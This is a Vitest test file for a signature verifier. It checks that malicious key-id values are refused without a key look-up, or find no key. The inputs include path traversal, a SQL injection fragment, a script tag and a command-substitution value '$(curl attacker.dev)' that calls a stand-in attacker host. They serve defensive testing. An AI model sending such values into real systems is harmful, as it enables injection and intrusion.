// A key id that is a path, a query, a list: whatever looks keys up by it must never see it.

import { expect, test } from 'vitest';
import { setScene } from '../support/attack.ts';
import { refusalOf } from '../support/requests.ts';

test.each([
  '../../../../dev/null',
  "' OR 1=1 --",
  'a\u0000b',
  'a b',
  '',
  'x'.repeat(257),
  '$(curl attacker.dev)',
  '<script>',
  'ключ',
  5,
  null,
  ['kid'],
  { kid: 1 },
])('[VERIFY-17] kid %j is refused without a look-up, or finds nothing', async (kid) => {
  const scene = await setScene();
  const asked: (string | undefined)[] = [];
  const keys = {
    find: async (_: unknown, header: { kid?: string }) => {
      asked.push(header.kid);
      return undefined;
    },
  };
  const refusal = await refusalOf(scene.verify(await scene.sign({}, { kid }), { keys }));
  // dots and slashes are legal in key ids; they are compared, never used as a path
  const isLegal = kid === '../../../../dev/null';
  expect(refusal).toMatchObject({ code: 'assertion_rejected', detail: isLegal ? 'key' : 'kid' });
  expect(asked).toEqual(isLegal ? [kid] : []);
});
